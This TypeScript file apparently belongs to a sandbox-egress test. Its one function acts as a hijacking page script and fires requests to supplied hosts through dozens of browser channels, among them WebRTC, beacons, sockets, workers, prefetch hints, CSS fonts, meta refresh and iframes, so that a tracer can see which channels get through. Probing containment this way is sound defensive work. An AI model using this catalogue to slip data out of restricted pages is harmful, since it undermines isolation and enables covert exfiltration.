/**
 * Runs in a page, as a script that has taken it over would: tries every way that is known to reach out, and gives the
 * names of those tried. Nothing is said about success: the tracer tells. Must hold everything it uses: its text is sent to the page.
 */
export async function tryToReachOut(hosts: readonly string[]): Promise<string[]> {
  const page = globalThis as unknown as Record<string, never> & { document: never };
  const { document } = page as unknown as { document: Record<string, never> & { createElement(name: string): Record<string, unknown> & { setAttribute(name: string, value: string): void; click(): void; submit(): void }; head: { append(node: unknown): void }; body: { append(node: unknown): void } } };
  const rest = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
  const tried: string[] = [];
  // Begun, not waited for: a hidden window may be gone in a moment.
  const attempt = (name: string, work: () => unknown): void => {
    tried.push(name);
    void (async () => work())().catch(() => undefined);
  };
  const element = (name: string, attributes: Record<string, string>, place: 'head' | 'body' = 'body') => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document[place].append(made);
    return made;
  };
  type Maker = new (...given: unknown[]) => Record<string, (...given: unknown[]) => Promise<unknown>>;
  const make = (world: Record<string, unknown>, name: string, ...given: unknown[]) => new (world[name] as Maker)(...given);
  const call = async (world: Record<string, unknown>): Promise<void> => {
    const peer = make(world, 'RTCPeerConnection', { iceServers: [{ urls: `stun:${hosts[0]}:3478` }] });
    void peer['createDataChannel']!('x');
    await peer['setLocalDescription']!(await peer['createOffer']!());
  };
  const all = page as unknown as Record<string, unknown>;

  attempt('RTCPeerConnection', () => call(all));
  for (const host of hosts) {
    const [web, socket] = [`https://${host}/`, `wss://${host}/`];
    attempt('fetch', () => fetch(web));
    attempt('fetch without cors', () => fetch(`http://${host}/`, { mode: 'no-cors', keepalive: true }));
    attempt('XMLHttpRequest', () => { const asked = make(all, 'XMLHttpRequest'); void asked['open']!('GET', web); void asked['send']!(); });
    attempt('sendBeacon', () => (all['navigator'] as { sendBeacon(to: string): boolean }).sendBeacon(web));
    attempt('WebSocket', () => make(all, 'WebSocket', socket));
    attempt('WebSocketStream', () => make(all, 'WebSocketStream', socket));
    attempt('WebTransport', () => make(all, 'WebTransport', web));
    attempt('EventSource', () => make(all, 'EventSource', web));
    for (const name of ['Worker', 'SharedWorker']) attempt(name, () => make(all, name, `${web}w.js`));
    attempt('worker of a blob', () => make(all, 'Worker', URL.createObjectURL(new Blob([`fetch('${web}'); new WebSocket('${socket}')`]))));
    attempt('service worker', () => (all['navigator'] as { serviceWorker: { register(at: string): Promise<unknown> } }).serviceWorker.register(`${web}s.js`));
    attempt('import()', () => import(/* @vite-ignore */ `${web}m.js`));
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest']) attempt(`link ${rel}`, () => element('link', { rel, href: web, as: 'fetch', crossorigin: '' }, 'head'));
    attempt('speculation rules', () => { const rules = document.createElement('script'); rules['type'] = 'speculationrules'; rules['textContent'] = JSON.stringify({ prefetch: [{ source: 'list', urls: [web] }], prerender: [{ source: 'list', urls: [web] }] }); document.head.append(rules); });
    for (const name of ['img', 'audio', 'video', 'script', 'track', 'source', 'input', 'iframe', 'embed', 'frame', 'portal', 'fencedframe']) attempt(`${name} src`, () => element(name, { src: web, type: 'image' }));
    attempt('object data', () => element('object', { data: web }));
    attempt('video poster', () => element('video', { poster: web }));
    attempt('image set', () => element('img', { srcset: `${web} 1x` }));
    attempt('svg image', () => { const svg = new DOMParser().parseFromString(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${web}"/><use href="${web}#a"/></svg>`, 'image/svg+xml'); document.body.append(svg.documentElement); });
    attempt('inline style', () => element('div', { style: `background: url(${web}); cursor: url(${web}), auto` }));
    attempt('style element', () => { element('style', {})['textContent'] = `@import url(${web}); @font-face { font-family: out; src: url(${web}) } body { font-family: out; list-style: url(${web}) }`; });
    attempt('built style sheet', () => { const sheet = make(all, 'CSSStyleSheet') as unknown as { replaceSync(text: string): void }; sheet.replaceSync(`@font-face { font-family: out; src: url(${web}) } body::after { content: url(${web}) }`); (document as unknown as { adoptedStyleSheets: unknown[] }).adoptedStyleSheets.push(sheet); });
    attempt('font face', () => make(all, 'FontFace', 'out', `url(${web})`)['load']!());
    attempt('meta refresh', () => element('meta', { 'http-equiv': 'refresh', content: `0;url=${web}` }, 'head'));
    attempt('meta policy report', () => element('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${web}` }, 'head'));
    attempt('link with ping', () => element('a', { href: '#', ping: web }).click());
    attempt('link', () => element('a', { href: web }).click());
    attempt('link to another window', () => element('a', { href: web, target: '_blank' }).click());
    attempt('download', () => element('a', { href: web, download: 'x' }).click());
    attempt('form', () => element('form', { action: web, method: 'post' }).submit());
    attempt('window.open', () => (all['open'] as (to: string) => unknown)(web));
    attempt('location', () => { (all['location'] as { href: string }).href = web; });
    for (const name of ['frame of text', 'empty frame']) {
      attempt(name, async () => {
        const frame = element('iframe', name === 'empty frame' ? {} : { srcdoc: `<img src="${web}"><script>fetch('${web}')</script>` });
        await call((frame as unknown as { contentWindow: Record<string, unknown> }).contentWindow);
      });
    }
    attempt('frame by markup', () => { (document.body as unknown as { innerHTML: string }).innerHTML += `<iframe srcdoc="x"></iframe><object></object><img src="${web}">`; });
  }
  attempt('window of its own', () => call((all['open'] as (to: string) => Record<string, unknown>)('about:blank')));
  await rest(1500);
  return tried;
}
